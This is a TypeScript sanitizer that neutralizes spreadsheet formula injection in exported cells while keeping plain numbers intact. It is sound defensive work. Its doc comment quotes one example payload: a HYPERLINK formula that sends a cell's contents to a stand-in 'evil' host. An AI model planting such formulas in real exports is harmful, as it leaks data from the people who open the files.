/**
 * Spreadsheet formula injection (CWE-1236): a cell whose text starts with `=`, `+`, `-`, `@`,
 * tab or CR may be evaluated as a formula when the file is opened (CSV) or the cell is edited
 * (XLSX), e.g. `=HYPERLINK("http://evil/?"&A2, "clique")`. A leading apostrophe makes Excel,
 * LibreOffice and Google Sheets keep the text as text.
 *
 * Spreadsheet apps skip leading spaces and line breaks before deciding that a cell is a
 * formula, so `"\n=1+1"` and `"  @SUM(A1)"` are formulas too: the check looks at the first
 * character that is not whitespace.
 */

// Space, TAB, LF, VT, FF, CR: what the apps strip before looking for a formula.
const isLeadingSpace = (c: number): boolean => c === 32 || (c >= 9 && c <= 13);

// = + - @ by char code: this runs for every text cell of every report.
const startsFormula = (c: number): boolean => c === 61 || c === 43 || c === 45 || c === 64;

// Digits with `.`/`,` separators and an optional sign carry no function call, no reference and no
// operator Excel could run, so they stay untouched: E.164 phones (+5511987654321) and signed
// amounts (-12.50, -1.234,56) must survive exactly as they are.
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)$/;

export function neutralizeFormula(value: string): string {
  const first = value.charCodeAt(0);
  // A leading TAB or CR is neutralized whatever follows: some importers treat it as a cell break.
  if (first === 9 || first === 13) return `'${value}`;
  let i = 0;
  while (i < value.length && isLeadingSpace(value.charCodeAt(i))) i++;
  if (!startsFormula(value.charCodeAt(i))) return value;
  return PLAIN_NUMBER.test(i === 0 ? value : value.slice(i)) ? value : `'${value}`;
}
